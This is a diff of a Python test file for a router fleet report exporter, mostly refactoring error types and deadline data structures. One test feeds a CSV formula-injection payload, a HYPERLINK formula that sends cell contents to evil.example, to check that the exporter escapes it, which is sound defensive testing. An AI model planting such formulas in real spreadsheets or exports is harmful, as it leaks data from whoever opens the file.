@@ -11,7 +11,6 @@ import stat
 import tracemalloc
 from collections import Counter
 from collections.abc import Iterator
-from dataclasses import replace
 from datetime import UTC, date, datetime, timedelta
 from html import unescape
 from pathlib import Path
@@ -23,8 +22,8 @@ from agent.fleet.report.document import check_path, write
 from agent.fleet.report.shown import shown, word
 from agent.fleet.report.timeline import Deadlines, When
 from agent.fleet.results.record import DeviceRecord, Kind, RunRecord
+from agent.fleet.results.structs import Error
 from agent.model.errors import FileError, InputError
-from agent.model.outcome import Failure
 from tests.cli.schemas import check
 from tests.fleet.records import HOSTILE, MEGABYTE, NOW, counted, devices, hostile, run, unended
 
@@ -79,7 +78,7 @@ def test_csv_has_a_line_a_router(tmp_path: Path) -> None:
     assert [(line["device"], line["word"], line["release"]) for line in told] == [
         (device.device, device.word, device.release or "") for device in made
     ]
-    assert told[0]["unregistered"] == f"{dict(made[0].deadlines)['unregistered']:%Y-%m-%dT%H:%M:%SZ}"
+    assert told[0]["unregistered"] == f"{made[0].deadlines['unregistered']:%Y-%m-%dT%H:%M:%SZ}"
     away = next(line for line in told if line["error"])
     assert (away["word"], away["error_kind"], away["error"]) == (
         "unknown",
@@ -91,7 +90,7 @@ def test_csv_has_a_line_a_router(tmp_path: Path) -> None:
 @pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\n", "\uff1d"])
 def test_a_spreadsheet_calculates_no_cell(start: str, tmp_path: Path) -> None:
     formula = f'{start}HYPERLINK("http://evil.example/"&A1)'
-    made = DeviceRecord(formula, "failed", address=formula, reasons=(formula,), error=Failure("rpc-error", formula))
+    made = DeviceRecord(formula, "failed", address=formula, reasons=(formula,), error=Error("rpc-error", formula))
     (cells,) = csv.DictReader(written(tmp_path, ".csv", [made]).splitlines(), strict=True)
     assert all(cells[name].startswith("'") for name in ("device", "address", "reasons", "error"))
     assert cells["word"] == "failed"
@@ -158,11 +157,11 @@ def test_the_page_needs_nothing_beside_it(tmp_path: Path) -> None:
 
 
 def test_a_deadline_that_a_remedied_router_passed_is_not_counted(tmp_path: Path) -> None:
-    due = (("comm_failed", NOW - timedelta(days=10)), ("unregistered", NOW + timedelta(days=300)))
+    due = {"comm_failed": NOW - timedelta(days=10), "unregistered": NOW + timedelta(days=300)}
     made = [
         DeviceRecord("cured", "remedied", well=True, deadlines=due),
         DeviceRecord("hit", "affected", deadlines=due),
-        DeviceRecord("past", "remedied", well=True, deadlines=due[:1]),
+        DeviceRecord("past", "remedied", well=True, deadlines={"comm_failed": due["comm_failed"]}),
     ]
     page = written(tmp_path, ".html", made)
     told = {str(row["device"]): row for row in rows(page)}
@@ -369,6 +368,6 @@ def test_no_deadlines_no_time_line(tmp_path: Path) -> None:
 
 def test_an_old_clock_makes_no_negative_time(tmp_path: Path) -> None:
     (device,) = devices(1)
-    set_back = replace(device, began=NOW, ended=NOW - timedelta(hours=1))
+    set_back = device.evolve(began=NOW, ended=NOW - timedelta(hours=1))
     (case,) = etree.fromstring(written(tmp_path, ".xml", [set_back]).encode()).iterfind(".//testcase")
     assert case.get("time") == "0.000"
